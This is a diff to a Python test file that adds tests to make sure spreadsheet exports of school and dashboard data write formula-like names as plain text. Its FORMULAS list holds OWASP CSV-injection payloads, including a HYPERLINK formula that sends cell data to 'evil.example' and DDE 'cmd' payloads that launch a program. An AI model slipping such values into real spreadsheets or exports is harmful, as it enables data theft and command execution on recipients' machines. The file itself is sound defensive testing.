@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import zipfile
 from datetime import UTC, datetime
 
 import pytest
@@ -15,7 +16,7 @@ from config.campaign import Campaign
 from storage.credentials import SecretBox
 from storage.database import Database
 from storage.enums import AuditFlag, GrantKind, Role
-from storage.models import AccessGrant
+from storage.models import AccessGrant, School
 from tests.factories import World, make_grant
 
 
@@ -252,3 +253,60 @@ async def test_mzhb_export_of_a_district_without_channels(
     ]
     _, empty = reopen(alamudun.getvalue())
     assert empty == [["Аты-жөнү", "Телефон", "Мектептин коду", "Кирүү коду"]]
+
+
+# Values a spreadsheet would evaluate if they were written as they are (OWASP CSV injection).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Сокулук №1")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def formula_cells(data: bytes) -> list[str]:
+    """Every cell of every sheet that Excel would evaluate, as the file says (not as shown)."""
+    book = load_workbook(io.BytesIO(data))
+    found = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
+                found.append(name)
+    return found
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+async def test_a_school_name_that_looks_like_a_formula_is_exported_as_text(
+    database: Database, world: World, secret_box: SecretBox, name: str
+) -> None:
+    async with database.session() as s:
+        school = await s.get(School, world.school_a.id)
+        school.name = name
+    async with database.session() as s:
+        out = io.BytesIO()
+        await exports.export_school_coordinators(
+            s, actor=world.sokuluk_coordinator, secret_box=secret_box, out=out, language="ru"
+        )
+    assert formula_cells(out.getvalue()) == []
+    _, rows = reopen(out.getvalue())
+    assert [row[1] for row in rows[1:]][0] == name  # shown exactly as typed
+    assert rows[1][3].startswith("+996 ")  # phones stay readable text
+
+
+def test_the_dashboard_workbook_writes_formulas_as_text() -> None:
+    from admin_web.views.dashboard import _write
+
+    out = io.BytesIO()
+    _write(out, [("Мектептер", ["Код", "Мектеп", "Саны"], [["1", f, 3] for f in FORMULAS])])
+    assert formula_cells(out.getvalue()) == []
+    _, rows = reopen(out.getvalue())
+    assert [row[1] for row in rows[1:]] == FORMULAS
